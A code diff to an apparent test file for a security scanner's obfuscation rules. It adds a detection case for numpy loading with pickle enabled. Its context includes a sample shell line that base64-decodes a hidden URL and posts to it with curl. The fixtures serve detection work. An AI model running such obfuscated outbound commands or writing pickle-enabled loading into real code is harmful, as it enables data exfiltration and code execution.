@@ -27,6 +27,11 @@ describeRuleCases('obfuscation', [
     negative: py('obj = json.loads(text)'),
   },
   {
+    id: 'SG-OBFUSC-005',
+    positive: py('data = np.load(ASSETS / "profiles.npy", allow_pickle=True)'),
+    negative: py('data = np.load(ASSETS / "profiles.npy")'),
+  },
+  {
     id: 'SG-OBFUSC-006',
     positive: sh('echo aHR0cHM6Ly9leGFtcGxlLm5ldC9j | base64 -d | xargs curl -X POST'),
     negative: sh('base64 -d logo.b64 > logo.png'),
